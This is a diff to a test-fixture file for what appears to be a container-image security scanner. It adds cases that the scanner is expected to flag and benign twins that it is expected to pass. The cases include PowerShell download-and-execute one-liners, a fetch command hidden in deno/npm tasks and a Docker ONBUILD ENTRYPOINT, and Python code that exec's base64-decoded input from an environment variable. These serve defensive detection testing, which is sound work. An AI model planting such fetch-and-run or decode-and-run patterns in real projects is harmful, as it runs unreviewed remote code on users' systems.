@@ -96,6 +96,24 @@ export const OTHER_LANGUAGES: readonly ImageCase[] = [
   words('pwsh', '-c', `iex (irm ${URL})`),
   words('pwsh', '-EncodedCommand', Buffer.from(`irm ${URL} | iex`, 'utf16le').toString('base64')),
   inApp('pwsh -File x.ps1', { 'app/x.ps1': `Invoke-Expression (Invoke-WebRequest ${URL}).Content\n` }),
+  inApp('deno task go', { 'app/deno.json': JSON.stringify({ tasks: { go: FETCH } }) }),
+  inApp('node --run go', { 'app/package.json': JSON.stringify({ scripts: { go: FETCH } }) }),
+  {
+    name: 'ONBUILD ENTRYPOINT',
+    spec: image({}, { Cmd: ['nginx'], OnBuild: [`ENTRYPOINT ["sh", "-c", "${FETCH}"]`] }),
+    rule: 'start/download-and-run',
+  },
+  {
+    name: 'code of ENV, decoded by a program',
+    spec: image(
+      { 'app/a.py': 'import os, base64\nexec(base64.b64decode(os.environ["BOOT"]))\n' },
+      {
+        Entrypoint: ['python3', '/app/a.py'],
+        Env: [`BOOT=${base64('import time\nwhile True:\n    time.sleep(1000)\n    print("still here")\n')}`],
+      },
+    ),
+    rule: 'start/decode-and-run',
+  },
   {
     name: 'R that evaluates what it decodes',
     spec: image(
@@ -163,6 +181,21 @@ export const OTHER_LANGUAGE_TWINS: readonly ImageCase[] = [
       '# iex (irm https://x.example)\n$r = Invoke-RestMethod https://api.example/v1\nWrite-Output $r\n. ./lib.ps1\n',
     'app/lib.ps1': 'function F { 1 }\n',
   }),
+  {
+    name: 'a task beside that nothing asks for, and code that the user gives',
+    spec: image(
+      {
+        'app/deno.json': JSON.stringify({ tasks: { start: 'deno run -A m.ts', setup: FETCH } }),
+        'app/m.ts': 'console.log(1);\n',
+        'app/b.py': 'import os, base64\nexec(base64.b64decode(os.environ["BOOT"]))\n',
+      },
+      {
+        Entrypoint: ['sh', '-c', 'python3 /app/b.py; exec deno task start'],
+        WorkingDir: '/app',
+        Env: ['PATH=/usr/bin:/bin', `PYTHON_SHA256=${'0123456789abcdef'.repeat(4)}`],
+      },
+    ),
+  },
   honest('builds that start', 'sh start.sh', {
     'app/start.sh': '#!/bin/sh\ncargo run &\ngo run x.go &\nexec gradle run\n',
     'app/build.rs':
